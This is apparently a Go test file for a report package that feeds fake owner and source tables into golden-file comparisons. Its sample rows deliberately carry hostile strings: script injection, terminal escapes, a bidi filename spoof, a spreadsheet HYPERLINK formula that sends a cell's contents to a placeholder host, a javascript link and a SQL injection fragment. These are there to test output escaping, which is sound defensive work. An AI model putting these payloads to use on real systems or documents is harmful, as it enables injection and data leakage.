package report

import (
	"context"
	"errors"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// golden compares got with a file of testdata.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s mismatch (-want +got):\n%s", path, diff)
	}
}

// What strangers might call themselves.
const (
	evilScript  = `<script>alert(1)</script>"><img src=x onerror=alert(1)>`
	evilEscape  = "\x1b[31mred\x1b]0;title\x07\x9b2J\u0085gone"
	evilBidi    = "evil\u202egpj.exe\u2066\u200b"
	evilFormula = `=HYPERLINK("http://192.0.2.1/?"&A1,"open me")`
	evilLink    = "| a | [click](javascript:alert(1)) ![x](http://192.0.2.1/x.png) www.example.com <b>bold</b> `code` @team #1"
	evilQuery   = `a&month=all' OR 1=1 -- \`
	evilBroken  = "half\xff a \xc3("
)

var evil = []string{evilScript, evilEscape, evilBidi, evilFormula, evilLink, evilQuery, evilBroken}

var (
	firstSeen = time.Date(2012, 4, 10, 18, 22, 1, 0, time.UTC)
	lastSeen  = time.Date(2012, 4, 12, 13, 12, 56, 500e6, time.UTC)
	asOf      = time.Date(2012, 4, 30, 0, 0, 0, 0, time.UTC)
	april     = time.Date(2012, 4, 1, 0, 0, 0, 0, time.UTC)
)

// sampleOwners has ordinary owners, one that is not known and hostile ones.
func sampleOwners() Owners {
	t := Owners{Rows: []OwnerRow{
		{
			Owner: "Akamai", Attempts: 1234, Sources: 11, Networks: 8,
			Countries: shares(map[string]uint64{"US": 1, "FR": 2, "GB": 3, "JP": 4, "NL": 5, "DE": 6, "SE": 7}),
			Causes:    shares(map[string]uint64{"reply": 60, "scan": 1174}),
			FirstSeen: firstSeen, LastSeen: lastSeen, OwnerAsOf: asOf.AddDate(14, 0, 0), Late: 1200,
		},
		{Attempts: 40, Sources: 3, FirstSeen: firstSeen, LastSeen: lastSeen},
	}}
	for _, name := range evil {
		t.Rows = append(t.Rows, OwnerRow{
			Owner: name, Attempts: 1, Sources: 1, Networks: 1,
			Countries: []Share{{name, 1}}, Causes: []Share{{name, 1}}, FirstSeen: firstSeen, LastSeen: lastSeen,
		})
	}
	t.matching = uint64(len(t.Rows))
	t.Total = Total{
		Attempts: 1274 + uint64(len(evil)), Sources: 14 + uint64(len(evil)), Networks: 8 + uint64(len(evil)),
		Owners: 1 + uint64(len(evil)), Late: 1200, FirstSeen: firstSeen, LastSeen: lastSeen,
	}
	return t
}

// sampleSources are fewer than matched.
func sampleSources() Sources {
	var t Sources
	add := func(addr, country, owner string, attempts uint64) {
		a := netip.MustParseAddr(addr)
		t.Rows = append(t.Rows, SourceRow{
			Address: a.String(), Addr: a, Country: country, Owner: owner, Attempts: attempts,
			FirstSeen: firstSeen, LastSeen: lastSeen, OwnerAsOf: asOf,
		})
		t.Total.Attempts += attempts
	}
	add("198.51.100.7", "US", "Akamai", 16)
	add("198.51.100.9", "US", "Akamai", 15)
	add("2001:db8:0:7::1:53", "", "", 9)
	for i, name := range evil {
		add(netip.AddrFrom4([4]byte{203, 0, 113, byte(i + 1)}).String(), name, name, 1)
	}
	t.Rows[0].OwnerAsOf, t.Rows[0].Late = asOf.AddDate(14, 0, 0), 16
	t.Total.Attempts += 100
	t.Total.Late = 16
	t.Total.Sources = 2000
	t.Total.FirstSeen, t.Total.LastSeen = firstSeen, lastSeen
	t.matching = 2001
	return t
}

// fake answers with fixed tables, and notes what was asked.
type fake struct {
	months  []time.Time
	owners  Owners
	sources Sources
	err     error
	asked   []Filter
}

func (f *fake) Months(context.Context) ([]time.Time, error) { return f.months, f.err }

func (f *fake) Owners(_ context.Context, filter Filter) (Owners, error) {
	f.asked = append(f.asked, filter)
	return f.owners, f.err
}

func (f *fake) Sources(_ context.Context, filter Filter) (Sources, error) {
	f.asked = append(f.asked, filter)
	return f.sources, f.err
}

var errFake = errors.New("code: 241, message: memory limit exceeded at 192.0.2.1:8123")
